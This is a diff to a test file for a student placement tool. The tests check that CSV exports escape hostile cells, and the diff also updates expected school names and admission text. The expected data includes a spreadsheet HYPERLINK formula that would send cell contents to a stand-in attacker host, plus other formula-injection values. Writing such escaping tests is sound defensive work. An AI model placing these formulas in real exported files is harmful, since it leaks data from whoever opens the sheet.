@@ -87,7 +87,7 @@ def test_match_escapes_every_hostile_cell_in_the_csv_files(hostile_match):
     _, out = hostile_match
     raw = (out / "programmes.csv").read_text(encoding="utf-8")
     assert ("'@MAL-LAT-NA-NAT,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
-            "Malmö,NA,'+SUM(1;1),") in raw
+            "Båstad,EK,'+SUM(1;1),") in raw  # the sample's first offer: Akademi Båstad Gymnasium, EK
     placements = (out / "placements.csv").read_text(encoding="utf-8").splitlines()
     assert placements[1].startswith("'-0042,")
     assert placements[3].startswith("'\tS000003,")
@@ -145,7 +145,7 @@ def test_html_report_escapes_school_names(hostile_match):
 def test_explain_reads_escaped_ids_back_exactly(hostile_match):
     _, out = hostile_match
     text = explain_text(out, HOSTILE_STUDENT)
-    assert text.startswith(f"Student {HOSTILE_STUDENT} is admitted to HOG-NYHA-NA-NAS")
+    assert text.startswith(f"Student {HOSTILE_STUDENT} is admitted to 65722876-NA (NA at Malmö Latinskola Ro 1 in Malmö)")
     assert explain_text(out, TAB_STUDENT).startswith(f"Student {TAB_STUDENT} ")
 
 
